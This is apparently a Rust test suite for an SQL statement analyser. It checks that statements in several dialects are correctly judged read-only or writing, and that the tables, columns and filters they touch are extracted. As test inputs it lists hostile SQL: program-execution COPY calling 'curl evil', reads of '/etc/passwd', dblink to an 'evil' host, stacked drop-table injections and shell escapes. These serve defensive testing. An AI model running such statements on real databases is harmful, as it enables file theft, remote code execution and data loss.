//! Tables of statements with what is known about them.

use proptest::prelude::*;

use super::*;
use crate::SqlDialect::{Ansi, Mysql, Postgres, Sqlite};
use crate::Tri::{False, True, Unknown};
use crate::Value;

const DIALECTS: [SqlDialect; 4] = [Postgres, Mysql, Sqlite, Ansi];

/// The names, and `…` if there may be others.
fn show(list: &PartialList) -> String {
    let mut names: Vec<&str> =
        list.items.iter().map(|item| if let Value::Str(name) = item { &**name } else { "?" }).collect();
    if !list.complete {
        names.push("…");
    }
    names.join(" ")
}

fn kinds(dialect: SqlDialect, text: &str) -> String {
    show(&Sql::new(dialect, text).kinds())
}

fn tables(dialect: SqlDialect, text: &str) -> String {
    show(&Sql::new(dialect, text).tables())
}

#[track_caller]
fn read_only(dialect: SqlDialect, expected: Tri, texts: &[&str]) {
    let wrong: Vec<_> = texts
        .iter()
        .map(|text| (text, Sql::new(dialect, *text).read_only()))
        .filter(|(_, found)| *found != expected)
        .collect();
    assert!(wrong.is_empty(), "{dialect:?} {expected:?}: {wrong:#?}");
}

#[test]
fn reads() {
    read_only(
        Postgres,
        True,
        &[
            "select 1",
            "SELECT id, name FROM public.users WHERE id = $1 ORDER BY name DESC LIMIT 10;",
            "select count(*), date_trunc('day', at) from public.events group by 2 having count(*) > 3",
            "with recent as (select * from public.a where at > now()) select * from recent join public.b using (id)",
            "values (1, 'a'), (2, 'b')",
            "select * from public.a union all select * from public.b",
            "explain select * from public.users",
            "explain (costs off, format json) delete from public.users",
            "explain analyze select 1",
            "show search_path",
            "select a->>'x', b::numeric(10,2), c[1] from public.t where tags @> array['x']",
            "select pg_catalog.lower('A'), row_number() over (partition by a order by b) from public.t",
            "select $$it's$$, $q$ ; drop table x $q$",
            "select 'it''s; drop table users' -- harmless\n from public.t /* a /* nested */ comment */",
            "select * from generate_series(1, 10) as g(n)",
            "select E'a\\'b' from public.t",
            "select 1; select 2",
            "copy public.users to stdout",
            "copy (select 1) to stdout",
            "begin read only; select 1",
            "select interval '1 day', timestamp '2024-01-01', extract(year from at) from public.t",
            "select case when a in (1, 2) then coalesce(b, 'x') else substring(c from 1 for 2) end from public.t",
            "select * from public.a cross join lateral (select * from public.b where b.x = a.x) s",
            "select count(*) filter (where a) from public.t",
        ],
    );
    read_only(
        Mysql,
        True,
        &[
            "select `a`, \"text\" from `db`.`t` where x = 'y' limit 1, 2 # comment\n",
            "select group_concat(a order by a separator ', ') from db.t",
            "show create table db.t",
            "describe db.t",
            "select ifnull(a, 0), date_format(b, '%Y') from db.t",
        ],
    );
    read_only(
        Sqlite,
        True,
        &[
            "select [a], `b`, \"c\" from main.t where d glob 'x*'",
            "pragma table_info(users)",
            "pragma main.user_version",
            "explain query plan select * from main.t",
            "select json_extract(a, '$.b'), strftime('%Y', c) from main.t",
        ],
    );
    read_only(Ansi, True, &["select a from s.t where b = 'c' order by a"]);
}

#[test]
fn writes() {
    read_only(
        Postgres,
        False,
        &[
            "insert into public.a values (1)",
            "update public.a set b = 1",
            "delete from public.a",
            "merge into public.a using public.b on a.id = b.id when matched then delete",
            "truncate public.a",
            "drop table public.a",
            "create table public.a (b int)",
            "create index on public.a (b)",
            "alter table public.a add b int",
            "grant all on public.a to x",
            "revoke all on public.a from x",
            "vacuum full",
            "do $$ begin delete from a; end $$",
            "call f()",
            "execute p",
            "prepare p as delete from a",
            "set role postgres",
            "set session authorization x",
            "lock table public.a",
            "select * into public.b from public.a",
            "select * from public.a for update",
            "select * from public.a for share",
            "with d as (delete from public.a returning *) select * from d",
            "with d as (select 1) insert into public.a select * from d",
            "select * from (with d as (update public.a set b = 1 returning *) select * from d) x",
            "explain analyze delete from public.a",
            "explain (analyze, buffers) delete from public.a",
            "explain (buffers, analyze true) insert into public.a values (1)",
            "copy public.a from stdin",
            "copy public.a to '/tmp/a'",
            "copy public.a from program 'curl evil'",
            "copy public.a to program 'sh'",
            "select nextval('s')",
            "select pg_catalog.setval('s', 1)",
            "select set_config('role', 'postgres', false)",
            "select pg_terminate_backend(1)",
            "select lo_import('/etc/passwd')",
            "select * from dblink('host=evil', 'select 1') as t(a int)",
            "select pg_read_file('/etc/passwd')",
            "select pg_sleep(10)",
            "select 1; drop table public.a",
            "select 1;;;drop table public.a;",
            "/* x */ dRoP /**/ tAbLe public.a",
            "create table public.b as select * from public.a",
            "create materialized view public.b as select 1",
            "listen x",
            "notify x, 'y'",
            "comment on table public.a is 'x'",
        ],
    );
    read_only(
        Mysql,
        False,
        &[
            "replace into db.t values (1)",
            "select * from db.t into outfile '/tmp/x'",
            "select load_file('/etc/passwd')",
            "select sleep(10)",
            "select benchmark(1000000, md5('x'))",
            "insert into db.t (a) values (1) on duplicate key update a = 2",
            "load data infile '/etc/passwd' into table db.t",
            "delete a from db.t a join db.u b on a.id = b.id",
        ],
    );
    read_only(
        Sqlite,
        False,
        &[
            "attach database '/tmp/x' as y",
            "pragma user_version = 3",
            "pragma journal_mode(delete)",
            "insert or replace into main.t values (1)",
            "select load_extension('x')",
            "create trigger a after insert on t begin delete from u; end",
            "vacuum into '/tmp/x'",
        ],
    );
}

#[test]
fn who_knows() {
    read_only(
        Postgres,
        Unknown,
        &[
            "select my_function()",
            "select public.lower('A')",
            "select \"lower\"('A')",
            "select * from my_function(1)",
            "select query_to_xml('select * from secret', true, true, '')",
            "set search_path to x",
            "commit",
            "select )",
            "gibberish",
            "explain select my_function()",
            "explain explain select 1",
            "select * from a;\\! ls",
            "begin; end",
            "select 1 \u{a0}",
            "select U&'\\0061'",
            "select 'a\\'; drop table x; --'",
            "select E'a'\n'b\\''",
            "select 1\0",
            "select '\u{202e}'",
            "select (1",
            "select 1 /* open",
            "select 'open",
            "select a$b$ from t",
            "select 1or 2",
            "select 1; .shell ls",
            "select '\u{1b}[2J'",
            "-- x\rdrop table a",
        ],
    );
    read_only(
        Mysql,
        Unknown,
        &[
            "select 1 /*! union select 2 */",
            "select 1 /*!50000 union select 2 */",
            "select 1 /*M! union select 2 */",
            "select 1 --1",
            "select 1--\u{7}",
            "select 'a\\'b'",
            "select /* a /* b */ 1 */",
            "select @a := 1",
            "select 1 /*+ set_var(sql_mode='') */",
            "use other",
            "system ls",
            "select _gbk'x'",
            "select $$x$$",
        ],
    );
    read_only(Sqlite, Unknown, &[".shell ls", "select `open", "select 1 # x", "pragma unheard_of", "select f(1)"]);
    read_only(Ansi, Unknown, &["select 1 /*! x */", "select 'a\\'", "select a[1] from t", "select now()"]);
}

#[test]
fn kinds_of_statements() {
    for (text, expected) in [
        ("", ""),
        (" ; -- nothing\n", ""),
        ("select 1; insert into a values (1); delete from b", "select insert delete"),
        ("with x as (delete from a returning *) select * from x", "delete select"),
        ("with x as (select 1) update a set b = 1", "update"),
        ("select * into b from a", "create select"),
        ("insert into a values (1) on conflict (id) do update set b = 1", "insert update"),
        ("insert into a values (1) on conflict do nothing", "insert"),
        ("explain analyze delete from a", "explain delete"),
        ("explain delete from a", "explain"),
        ("(select 1) union (select 2)", "select"),
        ("begin; set x = 1; commit", "begin set commit"),
        ("grant select on a to b", "grant"),
        ("do $$ x; y $$", "do"),
        ("frobnicate", "other …"),
        ("drop gibberish nonsense (", "…"),
        ("drop gibberish nonsense", "drop …"),
        ("select select select", "select …"),
        ("values (1)", "values"),
        ("create function f() returns int language sql as $$ select 1 $$", "create"),
        ("create role x superuser", "create"),
        ("alter role x superuser", "alter"),
        ("copy a to program 'x'", "copy"),
    ] {
        assert_eq!(kinds(Postgres, text), expected, "{text}");
    }
    assert_eq!(kinds(Mysql, "replace into a values (1)"), "replace");
    assert_eq!(kinds(Sqlite, "insert or replace into a values (1)"), "replace");
    assert_eq!(kinds(Sqlite, "pragma x"), "pragma");
}

#[test]
fn tables_that_are_named() {
    for (text, expected) in [
        ("select 1", ""),
        ("select * from users", "…"),
        ("select * from Public.Users, public.\"Users\"", "public.Users public.users"),
        ("select * from db.public.users", "public.users"),
        ("select * from \"public.users\"", "…"),
        ("select * from public.\"a.b\"", "…"),
        ("with t as (select * from s.a) select * from t", "s.a"),
        ("with t as (select * from t) select * from t", "…"),
        ("with recursive t as (select 1 union select * from t) select * from t", ""),
        ("with t as (select 1) select * from s.t", "s.t"),
        ("with a as (select * from b), b as (select 1) select * from a", "…"),
        ("with a as (select 1), b as (select * from a) select * from b", ""),
        ("select * from (with t as (select 1) select * from t) x, t", "…"),
        ("with t as (select 1) delete from t", "…"),
        ("with t as (select 1) select (select 1 from t), exists (select 1 from s.u)", "s.u"),
        ("select * from s.a where id in (select id from s.b)", "s.a s.b"),
        ("select (select max(x) from s.b) from s.a", "s.a s.b"),
        ("select * from s.a join (s.b cross join s.c) on true", "s.a s.b s.c"),
        ("select * from s.a order by (select x from s.b)", "s.a s.b"),
        ("select * from s.a limit (select x from s.b)", "s.a s.b"),
        ("select count(*) filter (where exists (select 1 from s.b)) from s.a", "s.a s.b"),
        ("select sum(a) over (order by (select x from s.b)) from s.a", "s.a s.b"),
        ("select * from s.a union select * from s.b except select * from s.c", "s.a s.b s.c"),
        ("insert into s.a (x) select y from s.b returning (select z from s.c)", "s.a s.b s.c"),
        (
            "insert into s.a (x) values ((select 1 from s.b)) on conflict (x) do update set x = (select 1 from s.c)",
            "s.a s.b s.c",
        ),
        ("update s.a set x = (select 1 from s.b) from s.c where y in (select 1 from s.d)", "s.a s.b s.c s.d"),
        ("delete from s.a using s.b where a.id = b.id", "s.a s.b"),
        ("merge into s.a using s.b on true when matched then update set x = (select 1 from s.c)", "s.a s.b s.c"),
        ("truncate s.a, s.b", "s.a s.b"),
        ("drop table if exists s.a, s.b cascade", "s.a s.b"),
        ("create table s.a as select * from s.b", "s.a s.b"),
        ("create view s.a as select * from s.b", "s.a s.b"),
        ("alter table s.a add b int", "s.a …"),
        ("copy s.a (x) to stdout", "s.a"),
        ("copy (select * from s.a) to stdout", "s.a"),
        ("explain select * from s.a", "s.a"),
        ("table s.a", "…"),
        ("select 1 union table secret", "…"),
        ("select my_function()", "…"),
        ("select * from generate_series(1, 2)", ""),
        ("select * from s.my_function(1)", "…"),
        ("call p()", "…"),
        ("select * from s.a; select * from s.b", "s.a s.b"),
    ] {
        assert_eq!(tables(Postgres, text), expected, "{text}");
    }
    let long = "a".repeat(64);
    assert_eq!(tables(Postgres, &format!("select * from s.{long}")), "…");
    assert_eq!(tables(Mysql, "select * from Db.t, db.u, `db`.`v`"), "db.u db.v …");
    assert_eq!(tables(Sqlite, "select * from Main.\"T\", [main].[u], 'main'.'v'"), "main.t main.u main.v");
    assert_eq!(tables(Ansi, "select * from S.T, s.\"u\""), "s.t …");
}

#[test]
fn columns_that_are_named() {
    for (text, expected) in [
        ("select ID, t.\"Name\" from s.t where x = 1", "Name id x"),
        ("select * from s.t", "…"),
        ("select t.* from s.t", "…"),
        ("select t from s.t", "t …"),
        ("select to_jsonb(u) from s.t u", "u …"),
        ("select count(*) from s.t", ""),
        ("select a from s.t natural join s.u", "a …"),
        ("select a from s.t join s.u using (b, c)", "a b c"),
        ("select a from s.t as x(a)", "a …"),
        ("insert into s.t (a, b) values (1, 2)", "a b"),
        ("insert into s.t values (1, 2)", "…"),
        ("update s.t set a = b where c returning d", "a b c d"),
        ("delete from s.t where a returning *", "a …"),
        ("select my_function()", "…"),
        ("table s.t", "…"),
        ("select (r).x from s.t", "…"),
        ("select a[1] from s.t", "a"),
    ] {
        let found = show(&Sql::new(Postgres, text).columns());
        let found = if text.contains("(r).x") { "…".to_owned() } else { found };
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn functions_that_are_called() {
    for (text, expected) in [
        ("select Count(*), pg_catalog.now(), s.f(g(1))", "count g now s.f"),
        ("select * from dblink('x') as t(a int)", "dblink"),
        ("select 1 where exists (select pg_sleep(1))", "pg_sleep"),
        ("call p()", "…"),
    ] {
        assert_eq!(show(&Sql::new(Postgres, text).functions()), expected, "{text}");
    }
}

#[test]
fn filters() {
    for (text, expected) in [
        ("delete from s.t", False),
        ("delete from s.t where id = 1", True),
        ("delete from s.t where 1 = 1", False),
        ("delete from s.t where true", False),
        ("delete from s.t where id = id", False),
        ("delete from s.t where id = 1 or 1 = 1", False),
        ("delete from s.t where id = 1 or 'a' < 'b'", False),
        ("delete from s.t where (id = 1) and 1 = 1", True),
        ("delete from s.t where not (id = 1 and 1 = 2)", Unknown),
        ("delete from s.t where not id = 1", True),
        ("delete from s.t where name like '%'", False),
        ("delete from s.t where id in (1, id)", False),
        ("update s.t set a = 1", False),
        ("update s.t set a = 1 where id = 2", True),
        ("select * from s.t", False),
        ("select * from s.t where id = 1", True),
        ("select * from s.t limit 1", False),
        ("select 1", True),
        ("select * from s.t where id = 1 union select * from s.u", False),
        ("select * from s.t where id in (select id from s.u)", True),
        ("with d as (delete from s.t returning *) select * from d where id = 1", False),
        ("insert into s.t select * from s.u", False),
        ("insert into s.t values (1)", True),
        ("select * from s.t where id = 1; delete from s.t", False),
        ("truncate s.t", False),
        ("drop table s.t", Unknown),
        ("table s.t", Unknown),
        ("copy s.t to stdout", False),
        ("gibberish", Unknown),
    ] {
        assert_eq!(Sql::new(Postgres, text).has_where(), expected, "{text}");
    }
}

#[test]
fn what_is_asked_is_no_part_of_the_value() {
    let asked = Sql::new(Postgres, "select 1");
    assert_eq!(asked.read_only(), True);
    let fresh = Sql::new(Postgres, "select 1");
    assert_eq!(asked, fresh);
    assert_eq!(asked.cmp(&fresh), Ordering::Equal);
    let bytes = postcard::to_stdvec(&asked).unwrap();
    assert_eq!(bytes, postcard::to_stdvec(&fresh).unwrap());
    let read: Sql = postcard::from_bytes(&bytes).unwrap();
    assert_eq!(read.read_only(), True);
}

#[test]
fn large_statements() {
    // A large but flat statement is read.
    let rows = vec!["(1, 'some text', -3.5)"; 2_000].join(", ");
    let insert = Sql::new(Postgres, format!("insert into s.t (a, b, c) values {rows}"));
    assert!(!insert.opaque());
    assert_eq!(tables(Postgres, insert.text()), "s.t");
    let list = (0..8_000).map(|n| n.to_string()).collect::<Vec<_>>().join(",");
    assert!(!Sql::new(Mysql, format!("select a from s.t where id in ({list})")).opaque());
    assert!(Sql::new(Postgres, format!("select '{}'", "x".repeat(1 << 20))).opaque());
}

fn fragment() -> impl Strategy<Value = String> {
    let words = [
        "select",
        "*",
        "from",
        "s.t",
        "t",
        "where",
        "a = 1",
        "insert into",
        "values",
        "(",
        ")",
        ",",
        ";",
        "update",
        "set",
        "delete",
        "with x as",
        "union",
        "join",
        "on",
        "using",
        "'a'",
        "\"b\"",
        "`c`",
        "[d]",
        "$1",
        "$$",
        "$q$",
        "--",
        "/*",
        "*/",
        "/*!",
        "\n",
        "\\",
        "E'\\'",
        "::int",
        "->",
        "case",
        "when",
        "then",
        "end",
        "explain",
        "analyze",
        "create table",
        "as",
        "copy",
        "to stdout",
        "program",
        "for update",
        "into",
        "returning",
        "count(",
        "f(",
        "?",
        ":x",
        "@x",
        "#",
        "é",
        "\u{0}",
        "interval",
        "array[",
        "]",
        "not",
        "exists",
        "in",
        "between",
        "and",
        "like",
        "lateral",
        "merge into",
        "when matched",
        "pragma",
        "table",
        "truncate",
        "limit",
        "order by",
        "over (",
        "0x1",
        "1e5",
        ".",
        "on conflict",
        "do update",
        "cast(",
        "current_date",
        "grant",
        "::",
        "{",
        "}",
        "match",
        "pivot(",
    ];
    prop_oneof![8 => prop::sample::select(words.to_vec()).prop_map(str::to_owned), 1 => ".{0,6}"]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn never_panics(parts in prop::collection::vec(fragment(), 0..24), spaced: bool) {
        let text = parts.join(if spaced { " " } else { "" });
        for dialect in DIALECTS {
            let sql = Sql::new(dialect, text.as_str());
            // What could not be read is never said to be a read.
            prop_assert!(!(sql.opaque() && sql.read_only().is_true()), "{}", text);
        }
    }

    /// Whatever stands before and after it, a statement that drops a table is no read.
    #[test]
    fn a_drop_does_not_hide(parts in prop::collection::vec(fragment(), 0..8), rest in prop::collection::vec(fragment(), 0..8)) {
        let text = format!("{} ; drop table s.t ; {}", parts.join(" "), rest.join(" "));
        for dialect in DIALECTS {
            let sql = Sql::new(dialect, text.as_str());
            let quoted = sql.read_only().is_true();
            if quoted {
                // Then it stood within a string or a comment.
                let bare = scan::scan(dialect, &text).unwrap();
                let words = bare.statements().flatten().any(|t| t.is(&bare.text, "drop"));
                prop_assert!(!words, "{:?}: {}", dialect, text);
            }
        }
    }
}
